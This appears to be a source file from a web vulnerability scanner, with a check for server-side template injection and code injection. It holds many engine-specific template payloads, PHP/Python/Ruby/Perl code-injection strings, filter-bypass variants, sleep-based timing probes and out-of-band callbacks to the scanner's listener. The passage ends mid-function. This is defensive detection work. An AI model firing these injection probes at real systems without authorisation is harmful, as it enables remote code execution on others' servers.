import { pageOf } from '@rocca/tools/web/scope';
import { cweReference, scored } from '../../core/definition.ts';
import {
  actionAsks,
  actionWaits,
  provingAction,
  askingScript as script,
  sleepOnce,
  sleepOnceAt,
} from '../attack/action-values.ts';
import { callsFunction } from '../attack/called-functions.ts';
import { encodedAsAsked } from '../attack/encoded-as-asked.ts';
import { newDatabaseError } from '../attack/error-texts.ts';
import {
  decidesByNumbers,
  FAILING_TEMPLATES,
  type FailingCode,
  failingStrings,
  failingSums,
  failingTails,
  type SeenFailure,
} from '../attack/failing-numbers.ts';
import { wasShownNext } from '../attack/landing.ts';
import { type OutputPayload, type Product, showsOutput } from '../attack/output.ts';
import { expressionsAt } from '../attack/sql-proof.ts';
import { type Literals, mayBeStored, tryLiterals, tryShowing } from '../attack/template-literals.ts';
import { type Answer, control, mayWiden, proof, repeat, Trial } from '../attack/trial.ts';
import { showsWait } from '../attack/wait.ts';
import type { AttackTools, PointCheck, WebDefinition, WebSighting } from '../check.ts';
import { type InjectionPoint, ownNameOf } from '../crawl/point.ts';
import { type Evidence, filled } from '../evidence.ts';

const OWASP = { y2021: 'A03:2021', y2025: 'A05:2025' } as const;
const SCORES = scored(['AV:N/AC:L/Au:N/C:P/I:P/A:P', 7.5], ['AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H', 9.8]);

const TEMPLATE: WebDefinition = {
  key: 'template-injection',
  family: 'Injection',
  name: { it: 'Template injection sul server', en: 'Server-side template injection' },
  description: {
    it: 'Il valore di un parametro diventa parte di un modello (template) che il server elabora: le espressioni che contiene vengono calcolate. Da lì si leggono dati riservati e, con la maggior parte dei motori di template, si eseguono comandi sul server.',
    en: 'The value of a parameter becomes part of a template that the server renders: expressions in it are evaluated. From there confidential data can be read and, with most template engines, commands can be run on the server.',
  },
  solution: {
    it: 'Passare i valori al template come dati e non comporre mai il testo del template con essi. Dove gli utenti scrivono modelli, usare un motore senza logica in un ambiente isolato.',
    en: 'Pass values to the template as data, and never build the text of a template with them. Where users write templates, use an engine without logic in an isolated environment.',
  },
  scores: SCORES,
  cves: [],
  cwes: ['CWE-1336'],
  owasp: OWASP,
  references: [cweReference(1336)],
};

const CODE: WebDefinition = {
  key: 'code-injection',
  family: 'Injection',
  name: { it: 'Iniezione di codice', en: 'Code injection' },
  description: {
    it: 'Il valore di un parametro viene eseguito come codice del linguaggio dell’applicazione (per esempio con «eval»). Chi lo invia può fare tutto ciò che può fare l’applicazione.',
    en: 'The value of a parameter is executed as code in the language of the application (with “eval”, for example). An attacker can do everything the application can do.',
  },
  solution: {
    it: 'Non eseguire mai testo ricevuto dall’esterno: togliere «eval» e funzioni simili e, dove serve un calcolo, usare un interprete che conosce soltanto le operazioni necessarie.',
    en: 'Never execute text from outside: remove “eval” and functions like it and, where something must be calculated, use an interpreter that supports only the necessary operations.',
  },
  scores: SCORES,
  cves: [],
  cwes: ['CWE-95'],
  owasp: OWASP,
  references: [cweReference(95)],
};

interface Syntax extends OutputPayload {
  readonly key: string;
}

const template = (context: Evidence, expression: (a: number, b: number) => string): Syntax => ({
  key: TEMPLATE.key,
  context,
  spell: ({ a, b, left, right }) => `${left}${expression(a, b)}${right}`,
});

/** Engines without sums: the digits of the product in two parts, each where a condition holds. */
const divided = (context: Evidence, spell: (first: string, second: string) => string): Syntax =>
  template(context, (a, b) => {
    const digits = String(a * b);
    return spell(digits.slice(0, 4), digits.slice(4));
  });

const SERVER_INCLUDE: Evidence = { it: '<!--# (include del server)', en: '<!--# (server-side includes)' };
const includeOf = (one: string, two: string) => `<!--#set var="rq" value="${one}"--><!--#echo var="rq"-->${two}`;

const SECTIONS = divided(
  '{{^ }} (Mustache, Handlebars)',
  (one, two) => `{{^rq}}${one}{{/rq}}{{#rq}}q{{/rq}}{{^rq}}${two}{{/rq}}`,
);
const INCLUDES = divided(SERVER_INCLUDE, includeOf);

const TEMPLATES: readonly Syntax[] = [
  template('{{ }} (Jinja2, Twig, Nunjucks, Liquid)', (a, b) => `{{${a}*${b}}}`),
  template(`\${ } (FreeMarker, Mako, EL, JavaScript)`, (a, b) => `\${${a}*${b}}`),
  template('<%= %> (ERB, EJS)', (a, b) => `<%= ${a}*${b} %>`),
  template('#{ } (Pug, Slim, EL)', (a, b) => `#{${a}*${b}}`),
  // Where double braces are taken out or refused.
  template('{% print %} (Jinja2)', (a, b) => `{%print(${a}*${b})%}`),
  template('{ } (Smarty)', (a, b) => `{${a}*${b}}`),
  template('*{ } (Thymeleaf)', (a, b) => `*{${a}*${b}}`),
  template('@( ) (Razor)', (a, b) => `@(${a}*${b})`),
  template('{% widthratio %} (Django)', (a, b) => `{% widthratio ${a} 1 ${b} %}`),
  SECTIONS,
  divided('{{if}} (Go)', (one, two) => `{{if 1}}${one}{{else}}q{{end}}{{if 1}}${two}{{else}}q{{end}}`),
  template(`[[\${ }]] (Thymeleaf)`, (a, b) => `[[\${${a}*${b}}]]`),
  template('{{= }} (doT, Underscore)', (a, b) => `{{=${a}*${b}}}`),
  template('#set (Velocity)', (a, b) => `#set($q=${a}*${b})\${q}`),
  template({ it: '~{ } e __ (Thymeleaf)', en: '~{ } and __ (Thymeleaf)' }, (a, b) => `__\${${a}*${b}}__`),
  template('<#= (T4, Kendo)', (a, b) => `<#= ${a}*${b} #>`),
  template('{{ | times }} (Liquid)', (a, b) => `{{ ${a} | times: ${b} }}`),
  template('%{ } (OGNL)', (a, b) => `%{${a}*${b}}`),
  INCLUDES,
  template('{% %} (Tornado, Django-like)', (a, b) => `{% if 1 %}{{${a}*${b}}}{% end %}`),
];

const REASSEMBLED: Evidence = {
  it: '{{ }} ricomposte dopo la rimozione di delimitatori da parte di un filtro (Jinja2, Twig, Nunjucks)',
  en: '{{ }} reassembled after a filter removed delimiters (Jinja2, Twig, Nunjucks)',
};
/**
 * Payloads that become double braces when a filter removes the delimiters inside them: a filter that removes `{{`, `}}`,
 * `{%` and `%}`, one that removes double braces in one pass, and one that removes only the first of each.
 */
const FILTERED: readonly Syntax[] = [
  template(REASSEMBLED, (a, b) => `{}}{${a}*${b}}{%}`),
  template(REASSEMBLED, (a, b) => `{}}{${a}*${b}}{{}`),
  template(REASSEMBLED, (a, b) => `{{{{${a}*${b}}}}}`),
];

/** All of the common ones at once: an engine calculates its own, and leaves the others as they are. */
const TOGETHER: Syntax = {
  key: TEMPLATE.key,
  context: { it: 'più sintassi', en: 'several syntaxes' },
  spell: ({ a, b, left, right }) => {
    const digits = String(a * b);
    const forms = [
      '{{X}}',
      `\${X}`,
      '<%= X %>',
      '#{X}',
      '*{X}',
      '@(X)',
      `[[\${X}]]`,
      '#set($rq=X)$!{rq}',
      '%{X}',
      '{%print(X)%}',
    ];
    return [...forms.map((form) => form.replace('X', `${a}*${b}`)), includeOf(digits.slice(0, 4), digits.slice(4))]
      .map((form) => `${left}${form}${right}`)
      .join(' ');
  },
};

/**
 * The result may be shown apart from the text around it. What calculates as well without the signs of a template is a
 * mere calculator.
 */
const APART: readonly Syntax[] = [
  ['{{', '}}'],
  ['${', '}'],
  ['<%= ', ' %>'],
  ['#{', '}'],
].map(([open = '', close = '']) => ({
  ...template(`${open} ${close}`, (a, b) => `${open}${a}*${b}${close}`),
  bare: true,
  misspell: (spelled) => spelled.replace(open, '(').replace(close, ')'),
}));

const code = (context: Evidence, spell: (product: Product) => string): Syntax => ({ key: CODE.key, context, spell });

/** Ways to join texts, each of them known to several languages. */
type JoinOfTexts = readonly [language: string, join: (product: string, quote: string) => string];

const JOINS: readonly JoinOfTexts[] = [
  ['PHP, Perl', (product) => `. ${product} .`],
  ['JavaScript', (product) => `+(${product})+`],
  ['Python, Ruby', (product, quote) => `+${quote}%d${quote}%(${product})+`],
];

/** To MySQL a sum of texts is 0, which equals every text: where something may be written, calls that it does not know. */
const joinsAt = (point: InjectionPoint): readonly JoinOfTexts[] =>
  mayWiden(point)
    ? JOINS
    : [
        ...JOINS.slice(0, 2),
        ['Python', (product) => `+str(${product})+`],
        ['Ruby', (product) => `+(${product}).to_s+`],
      ];

const quotedCodes = (joins: readonly JoinOfTexts[], quote: string): readonly Syntax[] =>
  joins.map(([language, join]) =>
    code(
      filled(
        { it: 'una stringa tra {quote} ({language})', en: 'a string in {quote} ({language})' },
        { quote, language },
      ),
      ({ a, b, left, right }) => `${left}${quote}${join(`${a}*${b}`, quote)}${quote}${right}`,
    ),
  );

/** The whole text between words of ours, so that a mere calculator does not answer with it. */
const bareCodes = (joins: readonly JoinOfTexts[]): readonly Syntax[] =>
  joins.map(([language, join]) =>
    code(
      filled({ it: 'un’espressione ({language})', en: 'an expression ({language})' }, { language }),
      ({ a, b, left, right }) => `'${left}'${join(`${a}*${b}`, "'")}'${right}'`,
    ),
  );

/**
 * Beside the usual value, where that is the first or the last part of a name: `eval(value + '_rows()')`. A blank on the same
 * side changes nothing for who reads code.
 */
async function besideCodes(trial: Trial, joins: readonly JoinOfTexts[]): Promise<readonly Syntax[]> {
  const { value } = trial.point;
  if (!/^[\p{L}_][\w.]{0,60}$/u.test(value) || trial.isUsual(trial.other)) return [];
  const found: Syntax[] = [];
  for (const before of [true, false]) {
    if (!trial.isUsual(await trial.send(before ? ` ${value}` : `${value} `))) continue;
    for (const [language, join] of joins) {
      const sign = join('', '').trim()[0] ?? '';
      found.push(
        code(
          filled(
            {
              it: 'un’espressione accanto a “{value}” ({language})',
              en: 'an expression beside “{value}” ({language})',
            },
            { value, language },
          ),
          ({ a, b, left, right }) => {
            const text = `'${left}'${join(`${a}*${b}`, "'")}'${right}'`;
            return before ? `${text}${sign}${value}` : `${value}${sign}${text}`;
          },
        ),
      );
    }
  }
  return found;
}

/**
 * Where the value stands in a statement of SQL that writes, its end would cut the condition off: joined with a number
 * first, which PHP and Perl read as text, it is an error there.
 */
const guardedEnd = (point: InjectionPoint, end: string) =>
  mayWiden(point) ? end : end.replace(/^(['"]?)/, (quote) => (quote === '' ? ' . 0' : `${quote}. 0`));

/** Behind the end of a statement, of an argument, of a function: for what is run and not shown. */
const statementCodes = ({ point }: Trial, ends: readonly string[]): readonly Syntax[] =>
  ends.map((end) =>
    code(
      filled({ it: 'un’istruzione dopo {end} (PHP, Perl)', en: 'a statement behind {end} (PHP, Perl)' }, { end }),
      ({ a, b, left, right }) => `${point.value}${guardedEnd(point, end)}print('${left}'.(${a}*${b}).'${right}');#`,
    ),
  );

/** Whole statements: where a word is none, what stands behind it would never be run. */
const WHOLE_CODES: readonly Syntax[] = [
  code(
    { it: 'un’istruzione (PHP, Perl)', en: 'a statement (PHP, Perl)' },
    ({ a, b, left, right }) => `print('${left}'.(${a}*${b}).'${right}');#`,
  ),
  code(
    { it: 'un’espressione che stampa (PHP, Perl)', en: 'an expression that prints (PHP, Perl)' },
    ({ a, b, left, right }) => `print('${left}'.(${a}*${b}).'${right}')`,
  ),
  code(
    { it: 'un’istruzione (Python, Ruby)', en: 'a statement (Python, Ruby)' },
    ({ a, b, left, right }) => `print('${left}%d${right}'%(${a}*${b}))`,
  ),
];

/**
 * A part of a sum: others may stand before it and behind it. A comma leaves out what stands before it. What merely
 * calculates knows no lists and no characters. None has a quote, and none of Python a name that may be withheld from it.
 */
const OPERANDS: readonly Syntax[] = (
  [
    ['Python', (product) => `${product} if [].__len__()==0 else 0`],
    ['JavaScript, Ruby', (product) => `[].length==0 ? ${product} : 0`],
    ['PHP', (product) => `ord(chr(65))==65 ? ${product} : 0`],
    ['JavaScript', (product) => `0,[].length==0 ? ${product} : 0`],
    ['Python', (product) => `0,${product} if [].__len__()==0 else 0`],
  ] as ReadonlyArray<[language: string, spell: (product: string) => string]>
).map(([language, spell]) => ({
  ...code(filled({ it: 'un operando ({language})', en: 'an operand ({language})' }, { language }), ({ a, b }) =>
    spell(`${a}*${b}`),
  ),
  bare: true,
  misspell: (spelled: string) => spelled.replace(/len(?:gth)?|ord/, (word) => [...word].reverse().join('')),
}));
const NUMBER = /^-?\d{1,9}(?:\.\d{1,6})?$/;

const misspellPrint = (spelled: string) => spelled.replace('print', 'prnit');

/** In double quotes, without a quote of their own: escaping them does not help. */
const INTERPOLATED: readonly Syntax[] = [
  { ...code(`{\${ }} (PHP)`, ({ a, b }) => `{\${@print(${a}*${b})}}`), bare: true, misspell: misspellPrint },
  { ...code(`\${ } (PHP)`, ({ a, b }) => `\${@print(${a}*${b})}`), bare: true, misspell: misspellPrint },
  code('@{[ ]} (Perl)', ({ a, b, left, right }) => `${left}@{[${a}*${b}]}${right}`),
];

/** What interpreters say of a text that they cannot run. */
const CODE_ERROR =
  /parse error|syntax ?error|unexpected (?:token|identifier|string|end)|ReferenceError|NameError|undefined (?:constant|local variable|method|function)|eval\(\)'d code|at \(eval \d{1,9}\)|is not defined|unterminated string/i;

const failsAsCode = (answer: Answer, usual: Answer) =>
  (answer.exchange.response?.status ?? 0) >= 500
    ? (usual.exchange.response?.status ?? 0) < 500
    : CODE_ERROR.test(answer.text) && !CODE_ERROR.test(usual.text);

/** The value that the form was filled with is an error already, as every other word would be. */
const failsByItself = ({ control, other }: Trial) =>
  [control, other].every(({ exchange, text }) => (exchange.response?.status ?? 0) === 500 || CODE_ERROR.test(text));

/** A program that stops in the middle of its page without a message: any word may make it fail. */
const isCut = ({ text }: Answer) => /<html\b/i.test(text) && !/<\/html\s{0,4}>/i.test(text);
const endsEarly = ({ control, other }: Trial) => isCut(control) && isCut(other);

/** Where something may be written, a statement of SQL would end with them. */
const wholeCodes = ({ point }: Trial) => (mayWiden(point) ? WHOLE_CODES : WHOLE_CODES.slice(1));

/** What the first answers speak for. */
async function codesFor(trial: Trial, named: boolean, interpolates: boolean): Promise<readonly Syntax[]> {
  const broken = await trial.broken();
  if (newDatabaseError(broken.text, trial.control.text)) return [];
  const isBare = failsAsCode(trial.other, trial.control) || failsByItself(trial) || endsEarly(trial);
  const failed = isBare || failsAsCode(broken, trial.control);
  // Errors may be hidden: then nothing of the value is shown that quotes broke.
  const isLost = trial.reflects && trial.atLeast('default') && trial.distance(broken, trial.other) > 0;
  const joins = joinsAt(trial.point);
  const found: Syntax[] = interpolates ? [...INTERPOLATED] : [];
  if (failsAsCode(trial.other, trial.control)) found.push(...(await besideCodes(trial, joins)));
  const { value } = trial.point;
  const isOperand = named && (NUMBER.test(value) || SUM.test(value)) && !trial.isUsual(trial.other);
  if (isOperand) found.push(...OPERANDS);
  if (named || isBare || trial.atLeast('high'))
    found.push(...bareCodes(joins), ...wholeCodes(trial), ...statementCodes(trial, [';']));
  // Older PHP takes an unknown word for a text: one expression shows it.
  else if (isLost) found.push(...bareCodes(joins).slice(0, 1));
  if (named || failed || isLost || trial.atLeast('high'))
    found.push(...quotedCodes(joins, "'"), ...quotedCodes(joins, '"'));
  if (named || failed || trial.atLeast('high'))
    found.push(...statementCodes(trial, ["';", '";', "');", '");', ';}', ');}']));
  return found;
}

const NAMED_AS_CODE =
  /eval|code|expr|formula|calc|cmd|exec|script|func|template|tpl|preview|math|^sum|somma|espress|equa[tz]|operation|operazion|berechn|ausdruck|ecuaci|^rule|regola|condition|condizion/i;
/** A sum as calculators show it; dates and phone numbers have signs as well. */
const SUM = /^\s*\(?\d+(?:\.\d+)?\s*[+*/^%]\s*\(?\d+(?:\.\d+)?\)?\s*$/;
/** Pages that calculate, or run what they are sent. */
const PAGE_OF_CODE =
  /calc|comput|eval|formula|math|rechn|sandbox|playground|interpret|(?:^|[-_])repl(?:$|[-_.])|run-?_?code/i;
const isCode = ({ kind, name, value, request }: InjectionPoint) =>
  NAMED_AS_CODE.test(ownNameOf({ kind, name })) ||
  (SUM.test(value) && !/^\d{1,2}\/\d{1,4}$/.test(value)) ||
  PAGE_OF_CODE.test(pageOf(request.url).split('/').at(-1) ?? '');

/** Names of templates and formulas, and values with places to fill: a description or the code of a coupon is neither. */
const isLikelyAt = ({ kind, name, value }: InjectionPoint) =>
  /(?:^|[^a-z])eval(?!uat)|formula|calc|template|(?:^|[^a-z])(?:tpl|expr|expression|script)$/i.test(
    ownNameOf({ kind, name }),
  ) || /\{\{[^{}]{1,80}\}\}|<%=|\$\{[^{}]{1,80}\}/.test(value);

/** The usual value comes back, and a word without meaning does not. */
const showsOwn = ({ point: { value }, control: { text }, reflects, other }: Trial) =>
  !reflects && value.length >= 4 && text.includes(value) && !other.text.includes(value);

interface Ways {
  readonly templates: readonly Syntax[];
  readonly interpolates: boolean;
  readonly literal: Literals['found'];
}

/** Where the value may be stored the engine is asked nothing that it was not seen to know. */
async function templatesOfStored(trial: Trial, before: string): Promise<Ways> {
  const { found, isOfNames, isInclude, interpolates } = await tryLiterals(trial, before);
  const known = isOfNames ? [SECTIONS] : isInclude ? [INCLUDES] : [];
  const templates = known.map((one) => ({ ...one, spell: (numbers: Product) => before + one.spell(numbers) }));
  if (!isOfNames || (await areShown(trial, templates))) return { literal: found, interpolates, templates };
  return { literal: await tryShowing(trial, before), interpolates, templates: [] };
}

async function areShown(trial: Trial, templates: readonly Syntax[]): Promise<boolean> {
  for (const one of templates) if (await showsOutput(trial, one)) return true;
  return false;
}

async function templatesFor(trial: Trial): Promise<Ways> {
  // A field that shows only what looks right is given that first.
  const before = showsOwn(trial) ? `${trial.point.value} ` : '';
  if (mayBeStored(trial)) return templatesOfStored(trial, before);
  // A word of our own: the page behind a form may show another value by now.
  const product = { a: 10_007, b: 10_009, left: `${trial.tools.token().replace(/\d/g, '')}q`, right: 'z' };
  const spelled = `${product.a}*${product.b}`;
  const { text, exchange } = await trial.send(before + TOGETHER.spell(product));
  const calculated = text.includes('100160063') || /100[.,'’\u00a0\u202f ]160[.,'’\u00a0\u202f ]063/.test(text);
  const failed = exchange.response?.status !== trial.other.exchange.response?.status;
  // An engine that one of the others breaks may say so with any status: then none of them comes back.
  const isLost = trial.reflects && !text.includes(spelled);
  // One that knows no sums takes its own signs away, and leaves the others.
  const isTaken = trial.reflects && text.includes(`#{${spelled}}`) && !text.includes(`{{${spelled}}}`);
  const isFiltered = text.includes(product.left + spelled + product.right);
  const spellBehind = (one: Syntax) => ({ ...one, spell: (numbers: Product) => before + one.spell(numbers) });
  const all = [...TEMPLATES, ...(calculated ? APART : [])].map(spellBehind);
  const isWorth = failed || isLost || isTaken || trial.atLeast('high');
  return {
    literal: null,
    // One of them is what calculated: it is found, however far down the list it stands.
    templates: [
      ...(isFiltered ? FILTERED.map(spellBehind) : []),
      ...(calculated ? all : isWorth ? trial.within(all) : []),
    ],
    // A string in which it stands for a variable shows nothing for it, and the others as they are.
    interpolates: text.includes(`#{${spelled}}`) && !text.includes(`\${${spelled}}`),
  };
}

/** Names that leave no doubt: codes of products and vouchers are no code. */
const SURELY_CODE = /eval|expr|formula|script|snippet|exec|^func|^code$|source[-_]?code|php|python|ruby|perl/i;

/**
 * For code whose result nobody sees: it sleeps, once. Every payload is a syntax error or an unknown function to a database,
 * which would sleep for every row. Languages that can only wait by working are left out. A string is
 * ended only where an error says that quotes do so.
 */
async function waitsOf(trial: Trial): Promise<ReadonlyArray<(seconds: number) => string>> {
  const { value } = trial.point;
  const { isBare, isQuoted } = await readingOf(trial);
  return [
    ...(isBare || failsByItself(trial) || isInBase64(trial.point)
      ? [
          (n: number) => `${sleepOnceAt(trial.point, n)};`,
          // Perl and Ruby. A database and a shell refuse this form of condition before anything sleeps.
          (n: number) => `sleep ${n} if 1;`,
          (n: number) => `__import__('time').sleep(${n})`,
        ]
      : []),
    ...(isQuoted ? ["'", '"'].map((quote) => (n: number) => `${value}${quote}.sleep(${n}).${quote}`) : []),
    ...(mayBeSilentPhp(trial) ? [(n: number) => `${value}'.${sleepOnce(n)}.'".${sleepOnce(n)}."`] : []),
    ...actionWaits(trial),
  ];
}

/** Whether a PHP page answers every value alike: it may still evaluate the value inside a string of code. */
const mayBeSilentPhp = (trial: Trial) =>
  trial.atLeast('default') &&
  trial.isIgnored &&
  OF_A_FORM.has(trial.point.kind) &&
  RUNS_PHP.test(pageOf(trial.point.request.url));
const OF_A_FORM: ReadonlySet<string> = new Set(['query', 'form', 'multipart']);
/** What is encoded so was seldom meant to be written by persons. */
const isInBase64 = ({ codec }: InjectionPoint) => codec?.layers.length === 1 && codec.layers[0] === 'base64';

/** Whether the value is read as code where it stands, or within quotes. */
async function readingOf(trial: Trial): Promise<{ isBare: boolean; isQuoted: boolean }> {
  const broken = await trial.broken();
  if (newDatabaseError(broken.text, trial.control.text)) return { isBare: false, isQuoted: false };
  return {
    isBare: SURELY_CODE.test(ownNameOf(trial.point)) || failsAsCode(trial.other, trial.control),
    isQuoted: CODE_ERROR.test(broken.text) && !CODE_ERROR.test(trial.control.text),
  };
}

/** For languages that cannot sleep: code that asks our listener, once. */
async function askingCodes(trial: Trial): Promise<ReadonlyArray<(url: string) => string>> {
  const { value } = trial.point;
  const { isBare, isQuoted } = await readingOf(trial);
  return [
    ...actionAsks(trial),
    ...(isBare
      ? [(url: string) => script(url, "'"), (url: string) => `require('net/http')||1;Net::HTTP.get(URI('${url}'))`]
      : []),
    ...(isQuoted
      ? [(url: string) => `${value}'+${script(url, '"')}+'`, (url: string) => `${value}"+${script(url, "'")}+"`]
      : []),
  ];
}

const HEARD_MS = 700;

async function asksListener(trial: Trial): Promise<WebSighting | null> {
  const { listener } = trial.tools;
  for (const spell of listener ? await askingCodes(trial) : []) {
    const ask = async () => {
      const token = trial.tools.token();
      const url = listener?.urlFor(token) ?? '';
      const answer = await trial.send(spell(url));
      const heard = await listener?.heard(token, HEARD_MS);
      // Who fetches every address that a text names asks for what stands behind it as well.
      return heard && new RegExp(`/${token} `).test(heard.head) ? { answer, url, from: heard.from } : null;
    };
    const first = await ask();
    const again = first && (await ask());
    if (!again) continue;
    const evidence = filled(
      {
        it: 'Il codice che il server riceve viene eseguito: ha chiesto {url} al nostro listener (da {from}), e di nuovo per un altro indirizzo.',
        en: 'The code that the server is sent is run: it asked our listener for {url} (from {from}), and again for another address.',
      },
      { url: first.url, from: first.from },
    );
    return trial.sighting(CODE.key, evidence, [proof(first.answer, first.url), repeat(again.answer, again.url)]);
  }
  return null;
}

const NO_WAYS: Ways = { templates: [], interpolates: false, literal: null };

async function calculates(trial: Trial): Promise<WebSighting | null> {
  const named = isCode(trial.point);
  // What does not come back cannot come back calculated; a broken template answers with an error instead.
  const worthwhile = trial.reflects || showsOwn(trial) || named || trial.other.exchange.response?.status === 500;
  const { templates, interpolates, literal } =
    worthwhile || trial.atLeast('high') ? await templatesFor(trial) : NO_WAYS;
  if (literal) return evaluated(trial, literal);
  const codes = await codesFor(trial, named, interpolates);
  return firstShown(trial, [...templates, ...trial.within(codes)]);
}

const FORMAT: Evidence = { it: 'formato di testo (Python)', en: 'format of a text (Python)' };

/**
 * The usual value has a place for a value of the program: to Python its class may be named there as well. Nothing of it
 * fails, since the text may be stored.
 */
async function formatsValues(trial: Trial): Promise<WebSighting | null> {
  const [, name] = /(?<![{$#])\{([a-z_]\w{0,40}(?:\.\w{1,40}){0,3})\}/i.exec(trial.point.value) ?? [];
  if (name === undefined) return null;
  const ask = async (attribute: string, shown: string) => {
    const [left, right] = [trial.tools.token(), trial.tools.token()];
    const answer = await trial.send(`${left}{${name}.${attribute}}${right}`);
    return { answer, found: new RegExp(`${left}${shown}${right}`).exec(answer.text) };
  };
  const first = await ask('__class__.__name__', '((?!\\w{0,99}class)\\w{1,60})');
  const [shown, word] = first.found ?? [];
  if (shown === undefined || word === undefined) return null;
  const again = await ask('__class__', `[^\\n]{1,6}class[^\\n]{2,60}?${word}[^\\n]{2,14}`);
  if (!again.found) return null;
  const evidence = filled(
    {
      it: 'Il server calcola ciò che riceve: di “{value}” mostra il nome della classe (“{shown}”), di “{again}” la stessa classe come Python la scrive. Sintassi: {syntax}.',
      en: 'The server evaluates what is sent: of “{value}” it shows the name of the class (“{shown}”), and of “{again}” the same class as Python writes it. Syntax: {syntax}.',
    },
    { value: first.answer.value, shown, again: again.answer.value, syntax: FORMAT },
  );
  const messages = [proof(first.answer, shown), control(trial.other), repeat(again.answer, word)];
  return trial.sighting(TEMPLATE.key, evidence, messages);
}

/** A template may be made of what a form has stored, on the page that the form leads on to. */
async function calculatesLater(trial: Trial): Promise<WebSighting | null> {
  const landing = trial.atLeast('default') ? await trial.landing() : null;
  if (!landing) return null;
  const { literal, templates } = await templatesFor(landing);
  return literal ? evaluated(landing, literal) : firstShown(landing, templates);
}

function evaluated(trial: Trial, { context, first, messages }: NonNullable<Literals['found']>): WebSighting {
  const evidence = filled(
    {
      it: 'Il server valuta ciò che riceve: di “{value}” mostra il numero senza i segni attorno e senza lo zero finale, e così di un altro numero; tra altri segni il numero resta com’è. Sintassi: {syntax}. Nessun’altra espressione è stata provata, perché il valore può essere memorizzato.',
      en: 'The server evaluates what is sent: of “{value}” it shows the number without the signs around it and without its last zero, and so for another number; between other signs the number stays as it is. Syntax: {syntax}. No other expression was tried, since the value may be stored.',
    },
    { value: first.value, syntax: context },
  );
  return trial.sighting(TEMPLATE.key, evidence, messages);
}

/** Names of what decides which rows are shown, and in which order: programs make an expression of it. */
const NAMED_AS_RULE = /^(?:sort|order|by|where)$|(?:sort|order)[-_]?by|filter|criteri|predicate|module/i;
/** Texts that others are to get: what they are made of is often tried before it is kept. */
const NAMED_AS_TEXT = /^(?:body|message|text|content|mail|subject|banner|signature|layout|markup)$|templ|tpl|modello/i;
/** Every engine fails with its own part of it. */
const FAILING_EVERYWHERE = `{{(7}}\${(7}<%=(7%>`;

/** Neither shown nor slow: an expression that fails with some numbers, and is taken with others. */
async function failsByNumbers(trial: Trial): Promise<WebSighting | null> {
  const { point, control: usual, other } = trial;
  if (!trial.atLeast('default') || trial.reflects) return null;
  const asCode = isCode(point) || NAMED_AS_RULE.test(ownNameOf(point));
  const codes = asCode && point.value !== '' && !trial.isUsual(other) ? await codesBehind(trial) : [];
  const ofCode = await decidesByNumbers(trial, codes, { keeps: true });
  if (ofCode) return decided(trial, CODE.key, ofCode);
  if (!NAMED_AS_TEXT.test(ownNameOf(point)) && !trial.atLeast('high')) return null;
  // What fails in every engine would break every page that a stored text is a part of.
  if (mayBeStored(trial)) return null;
  const failed = await trial.send(FAILING_EVERYWHERE);
  if (!failed.exchange.response || !usual.exchange.response || trial.distance(failed, other) === 0) return null;
  const ofTemplate = await decidesByNumbers(trial, FAILING_TEMPLATES, { keeps: false });
  return ofTemplate && decided(trial, TEMPLATE.key, ofTemplate);
}

const RUNS_PHP = /\.(?:php\d?|phtml)$/i;

/** PHP joins texts by a sign of its own: strings in which that keeps the value, on pages that PHP makes. */
async function joinedByPhp(trial: Trial): Promise<readonly FailingCode[]> {
  const { value, request } = trial.point;
  if (!/^(?=.*\p{L}).{2,60}$/u.test(value) || !RUNS_PHP.test(pageOf(request.url)) || trial.reflects) return [];
  if (trial.isUsual(trial.other) || trial.isUsual(await trial.broken())) return [];
  for (const quote of ["'", '"'])
    if (trial.isUsual(await trial.send(`${value.slice(0, 1)}${quote}.${quote}${value.slice(1)}`)))
      return failingStrings(value, [quote]).slice(0, 1);
  return [];
}

/** What another spelling of the value shows to be an expression, and no function of SQL to be a statement. */
async function failsAsExpression(trial: Trial): Promise<WebSighting | null> {
  const { value } = trial.point;
  const ofOthers = [...expressionsAt(trial.point, trial.tools)].flatMap((quote) =>
    quote === '' ? failingSums(value) : failingStrings(value, [quote]),
  );
  const codes = ofOthers.length > 0 ? ofOthers : await joinedByPhp(trial);
  const seen = codes.length > 0 ? await decidesByNumbers(trial, codes, { keeps: true }) : null;
  return seen && decided(trial, CODE.key, seen);
}

async function codesBehind(trial: Trial): Promise<readonly FailingCode[]> {
  const { value } = trial.point;
  if (newDatabaseError((await trial.broken()).text, trial.control.text)) return [];
  return [...failingTails(value), ...failingStrings(value)];
}

function decided(trial: Trial, key: string, { code: { context }, first, messages }: SeenFailure): WebSighting {
  const evidence = filled(
    {
      it: 'Il server calcola ciò che riceve, senza mostrarlo: “{value}” è accettato, e lo stesso con un numero con cui il calcolo fallisce non lo è, ogni volta. Sintassi: {syntax}.',
      en: 'The server calculates what is sent without showing it: “{value}” is taken, and the same with a number that makes the calculation fail is not, each time. Syntax: {syntax}.',
    },
    { value: first.value, syntax: context },
  );
  return trial.sighting(key, evidence, messages);
}

async function firstShown(trial: Trial, syntaxes: readonly Syntax[]): Promise<WebSighting | null> {
  for (const syntax of syntaxes) {
    const seen = await showsOutput(trial, syntax);
    if (!seen) continue;
    const evidence = filled(
      {
        it: 'Il server calcola ciò che riceve: “{value}” riceve la risposta “{shown}”, e un’altra coppia di numeri il proprio prodotto. Sintassi: {syntax}.',
        en: 'The server calculates what is sent: “{value}” is answered with “{shown}”, and another pair of numbers with their own product. Syntax: {syntax}.',
      },
      { value: seen.first.value, shown: seen.shown, syntax: syntax.context },
    );
    return trial.sighting(syntax.key, evidence, seen.messages);
  }
  return null;
}

async function attackPoint(point: InjectionPoint, tools: AttackTools): Promise<readonly WebSighting[]> {
  const trial = await Trial.begin(point, tools);
  if (!trial) return [];
  const found =
    (await calculates(trial)) ??
    (await formatsValues(trial)) ??
    (await callsFunction(trial, CODE.key)) ??
    (await calculatesLater(trial)) ??
    (await failsByNumbers(trial));
  if (found) return [found];
  const encoded = await encodedAsAsked(point, tools);
  return encoded ? attackPoint(encoded, tools) : [];
}

export const templateInjection = {
  code: 'template_injection',
  name: { it: 'Template e codice', en: 'Templates and code' },
  kind: 'point',
  from: 'low',
  definitions: [TEMPLATE, CODE],
  measuresTime: true,
  isLikelyAt,
  wants: () => true,
  attack: attackPoint,
  async waitFor(point, tools) {
    const trial = provingAction(await Trial.begin(point, tools));
    // By now most checks have sent what they send, and the page shows what was sent here.
    const later = trial && wasShownNext(point, tools) ? await calculatesLater(trial) : null;
    if (later) return [later];
    const expression = trial && (await failsAsExpression(trial));
    if (expression) return [expression];
